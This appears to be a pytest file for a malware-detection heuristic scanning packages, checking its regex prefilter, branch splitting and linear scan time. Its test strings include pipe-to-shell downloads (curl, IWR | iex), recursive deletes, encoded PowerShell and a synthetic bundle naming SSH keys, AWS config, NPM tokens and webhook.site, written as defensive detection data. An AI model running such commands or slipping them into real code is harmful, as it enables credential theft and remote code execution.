"""The anchor prefilter: the literals it skips a regex branch on must be in every match; a big
bundle costs linear time."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from gouvernante.heuristic import (
    patterns,  # noqa: F401 - registers every pattern's regexes
    views,
)
from gouvernante.heuristic.install import detect_file
from gouvernante.heuristic.signals import FileSignals
from gouvernante.heuristic.views import _literal_runs, _required_literals, build_view

FIXTURES = Path(__file__).parent / "fixtures"


@pytest.mark.parametrize(
    ("branch", "runs"),
    [
        (r"abcd+efgh", ["abcd", "efgh"]),  # the repeated d ends the run: "abcdd" is not "abcde"
        (r"x?abcd", ["", "abcd"]),
        (r"foo{2}bar", ["fo", "bar"]),
        (r"abc\x41def", ["abc"]),  # an escape longer than two characters ends the scan
        (r"['\"]\.npmrc\b", ["", ".npmrc"]),
        (r"a(?:b|c)de\s*fgh", ["a", "de", "fgh"]),
        (r"ab[c]]de", ["ab", "]de"]),
        (r"wallet\.dat\b", ["wallet.dat"]),
    ],
)
def test_literal_runs(branch: str, runs: list[str]) -> None:
    assert [r for r in _literal_runs(branch) if r] == [r for r in runs if r]
    assert _literal_runs(branch)[0] == runs[0]


@pytest.mark.parametrize(
    ("branch", "literals"),
    [
        (r"\.kube[/\\]+config\b", {".kube"}),  # the leading literal first
        (r"['\"/\\~]\.npmrc\b", {".npmrc"}),  # else the longest run inside
        (r"(?P<ssh>['\"/\\~]\.ssh\b|id_(?:rsa|ed25519|ecdsa)\b)", {".ssh", "id_"}),
        (r"(?P<x>['\"]\.ssh\b|[ab]c)", None),  # one alternative without a literal: no set
        (r"npm\s+pack\b", None),  # only common words
        (r"(?:curl|wget)\b\s+x", None),  # a group is not looked into unless it is the branch
        (r"Local Extension Settings", {"local extension settings"}),
    ],
)
def test_required_literals(branch: str, literals: set[str] | None) -> None:
    got = _required_literals(branch)
    assert (None if got is None else set(got)) == literals


def _fixture_texts() -> list[str]:
    out = []
    for path in sorted(FIXTURES.rglob("*")):
        if path.is_file() and path.suffix in (".js", ".cjs", ".mjs", ".sh", ".ps1", ".json"):
            out.append(path.read_text(encoding="utf-8", errors="replace"))
    return out


def test_every_branch_match_holds_one_of_its_literals() -> None:
    """Over every fixture, each match of a registered branch contains one of the literals the
    prefilter would skip that branch on (so skipping never loses a match)."""
    texts = _fixture_texts()
    assert texts
    checked = 0
    for branches in views._BRANCHES.values():
        for branch, lits in branches:
            if lits is None:
                continue
            for text in texts:
                view = build_view(text)
                for hay in (view.text, view.decoded):
                    for m in branch.finditer(hay):
                        assert any(lit in m.group(0).lower() for lit in lits), branch.pattern
                        checked += 1
    assert checked > 50


@pytest.mark.parametrize(
    ("branch", "split"),
    [
        (r"(?:curl|wget)\b\s+x", [r"curl\b\s+x", r"wget\b\s+x"]),
        (r"(?:ab|a)bc", [r"abbc", r"abc"]),  # the group's order is kept
        (r"(?:Invoke-Expression|iex)", [r"Invoke-Expression", r"iex"]),
        (r"(?:a|b)?c", [r"(?:a|b)?c"]),  # a repeated group: kept whole
        (r"(?:a|b\s)c", [r"(?:a|b\s)c"]),  # an alternative that is not a literal
        (r"(?P<x>a|b)c", [r"(?P<x>a|b)c"]),  # a capturing group
        (r"x(?:a|b)", [r"x(?:a|b)"]),
        (r"['\"/\\~]\.rc", [r"'\.rc", r'"\.rc', r"/\.rc", r"\\\.rc", r"\~\.rc"]),
        (r"[ab]?c", [r"[ab]?c"]),
        (r"[^ab]c", [r"[^ab]c"]),
        (r"[a-c]d", [r"[a-c]d"]),
        (r"[\w.]d", [r"[\w.]d"]),
    ],
)
def test_literal_led_split(branch: str, split: list[str]) -> None:
    assert views._literal_led(branch) == split


_SPLIT_CASES = [
    "fs.renameSync('package.md', 'package.json'); rename('package.md','package.json')",
    "curl -s https://x.invalid/a | wget -qO- https://x.invalid/b | sh",
    "IWR https://x.invalid | iex; Invoke-WebRequest https://x.invalid | IEX",
    "del /s /q %USERPROFILE%\\x; DEL /F /S y; crontab -e; SCHTASKS /create /tn x",
    "powershell -enc QUJDREVGR0hJSktMTU5PUA==; x",
    "PowerShell.exe -EncodedCommand QUJDREVGR0hJSktMTU5PUA==",
    "spawn('npm', ['publish', '--access', 'public']); x('~/.bashrc', \"/.zshrc\")",
]


def test_split_branches_find_the_same_first_match() -> None:
    """A regex searched branch by branch, its leading literal groups split (``_literal_led``),
    finds the match ``re`` finds for the whole regex, over every fixture and tricky strings."""
    texts = _fixture_texts() + _SPLIT_CASES
    split = [r for r in views._REGISTERED if id(r) in views._SEARCH_BRANCHES]
    assert len(split) >= 3
    checked = 0
    for text in texts:
        view = build_view(text)
        for rx in split:
            for hay in (view.text, view.decoded):
                if not view.may(rx):
                    continue
                got = view._search(rx, hay)
                want = rx.search(hay)
                assert (got and (got.span(), got[0])) == (want and (want.span(), want[0])), rx
                checked += want is not None
    assert checked > 12


# A minified-bundle shape dense in what the patterns look for (module names, sinks, decodable
# literals, concatenations, credential paths, a host name), written here, not copied.
_BUNDLE_CHUNK = (
    'var a=require("http"),b=require("child_process");fetch(u).then(r=>r.json());'
    'x=s.charCodeAt(i)^k;y="ab"+"cd"+"ef";isFunction(f)&&g.eval(s);z="QUJDREVGR0hJSktM";'
    'p=".aws/config",q="~/.ssh/id_rsa";t=process.env.NPM_TOKEN;curl -s https://x.y/a |'
    'w=require(m(n));new Function("return this")();webhook.site;'
)


def _bundle_cost(repeat: int, install: bool) -> float:
    text = _BUNDLE_CHUNK * repeat
    best = float("inf")
    for _ in range(3):
        t0 = time.process_time()
        detect_file(FileSignals(build_view(text), install=install))
        best = min(best, time.process_time() - t0)
    return best


@pytest.mark.parametrize("install", [False, True])
def test_big_bundle_costs_linear_time(install: bool) -> None:
    """Four times the bundle (0.3 MB -> 1.2 MB, under the sampling limit) costs about four times
    the time, not sixteen."""
    small = _bundle_cost(1000, install)
    big = _bundle_cost(4000, install)
    assert big < 8 * small, (small, big)
